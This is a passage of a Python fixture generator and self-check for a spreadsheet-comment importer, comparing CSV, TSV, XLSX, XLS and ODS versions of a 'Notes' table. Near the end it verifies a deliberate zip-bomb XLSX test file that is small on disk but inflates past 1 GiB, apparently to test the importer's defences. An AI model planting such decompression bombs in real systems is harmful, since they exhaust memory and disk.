    def text_of(el):
        out = [el.text or ""]
        for ch in el:
            if ch.tag == T + "s":
                out.append(" " * int(ch.get(T + "c", "1")))
            elif ch.tag == T + "line-break":
                out.append("\n")
            elif ch.tag == T + "tab":
                out.append("\t")
            else:
                out.append(text_of(ch))
            out.append(ch.tail or "")
        return "".join(out)

    root = ET.fromstring(zipfile.ZipFile(p).read("content.xml"))
    table = root.find(".//table:table", ns)
    assert table.get("{%s}name" % ns["table"]) == "Notes"
    rows = []
    for tr in table.findall("table:table-row", ns):
        row = []
        for tc in tr.findall("table:table-cell", ns):
            rep = int(tc.get("{%s}number-columns-repeated" % ns["table"], "1"))
            val = "\n".join(text_of(pe) for pe in tc.findall("text:p", ns))
            row.extend([val] * min(rep, 8))
        row = row[:4]
        if any(row):
            rows.append(row)
    return rows


def check():
    want = [[c for c in r] for r in format_table()]
    fmt = os.path.join(FIX, "formats")

    def cmp(name, got):
        got = [[norm_cell(c) for c in r] + [""] * (4 - len(r)) for r in got]
        if got != want:
            for a, b in zip(got, want):
                if a != b:
                    print("  got ", a, "\n  want", b)
            sys.exit(f"self-check FAILED: {name}")
        print(f"  ok  {name}")

    def read_csv(name, enc, delim, bom=b""):
        raw = open(os.path.join(fmt, name), "rb").read()
        assert raw.startswith(bom)
        return list(csv.reader(io.StringIO(raw[len(bom):].decode(enc), newline=""), delimiter=delim))

    cmp("comments.utf8.csv", read_csv("comments.utf8.csv", "utf-8", ","))
    cmp("comments.utf8bom.csv", read_csv("comments.utf8bom.csv", "utf-8", ",", codecs.BOM_UTF8))
    cmp("comments.cp1252.csv", read_csv("comments.cp1252.csv", "cp1252", ","))
    cmp("comments.semicolon.csv", read_csv("comments.semicolon.csv", "cp1252", ";"))
    cmp("comments.utf16.tsv", read_csv("comments.utf16.tsv", "utf-16-le", "\t", codecs.BOM_UTF16_LE))
    for name in ("comments.xlsx", "comments.sst.xlsx"):
        wb = openpyxl.load_workbook(os.path.join(fmt, name))
        assert wb.sheetnames == ["Notes"], wb.sheetnames
        cmp(name, [list(r) for r in wb["Notes"].iter_rows(values_only=True)])
    try:
        import xlrd
        book = xlrd.open_workbook(os.path.join(fmt, "comments.xls"))
        assert book.sheet_names() == ["Notes"]
        sh = book.sheet_by_index(0)
        cmp("comments.xls", [sh.row_values(i) for i in range(sh.nrows)])
    except ImportError:
        print("  skip comments.xls (pip install xlrd to check it)")
    cmp("comments.ods", read_ods(os.path.join(fmt, "comments.ods")))

    exp = list(csv.reader(open(os.path.join(fmt, "expected.csv"), encoding="utf-8", newline="")))
    assert [r[0] for r in exp[1:]] == [r[0] for r in want[1:]]
    assert [r[3] for r in exp[1:]] == [r[3] for r in want[1:]]

    # Required content of the format set.
    allt = "".join(r[3] for r in want[1:])
    for ch in "£‘’“”–…éë,;\"":
        assert ch in allt, ch
    assert sum("\n" in r[3] for r in want[1:]) >= 2
    assert sum(r[3] == "" for r in want[1:]) == 1

    raw = open(os.path.join(fmt, "comments.cp1252.csv"), "rb").read()
    assert b"\r\n" in raw and b'""' in raw and raw.count(b"\n") > raw.count(b"\r\n")  # bare LFs in cells

    # Demo sanity.
    rows = demo_rows()
    n_comments = sum(1 for r in rows if r[4])
    n_blank = sum(1 for r in rows if not r[4])
    assert 140 <= n_comments <= 160 and 3 <= n_blank <= 4, (n_comments, n_blank)
    wb = openpyxl.load_workbook(os.path.join(FIX, "demo", "stls-notes.xlsx"))
    assert wb.sheetnames == ["Notes"]
    got = [[norm_cell(c) for c in r] for r in wb["Notes"].iter_rows(min_row=2, values_only=True)]
    assert [g[4] for g in got] == [r[4] for r in rows]
    raw = open(os.path.join(FIX, "demo", "internal-steering.csv"), "rb").read()
    raw.decode("cp1252")
    assert b"\xa3" in raw and b"\x93" in raw and b"\r\n" in raw
    print(f"  ok  demo: {n_comments} STLS comments + {n_blank} blank; {len(INTERNAL)} internal")

    bomb = os.path.join(FIX, "bad", "zip-bomb.xlsx")
    if os.path.exists(bomb):
        size = os.path.getsize(bomb)
        inflated = zipfile.ZipFile(bomb).getinfo("xl/worksheets/sheet1.xml").file_size
        assert size < 2 * 1024 * 1024 and inflated >= 1 << 30, (size, inflated)
        print(f"  ok  zip-bomb.xlsx: {size} bytes on disk, sheet1.xml inflates to {inflated} bytes")


def main():
    args = set(sys.argv[1:])
    if "--check-only" not in args:
        print(f"openpyxl {openpyxl.__version__}")
        make_formats()
        make_demo()
        make_bad(with_bomb="--no-bomb" not in args)
    check()


if __name__ == "__main__":
    main()
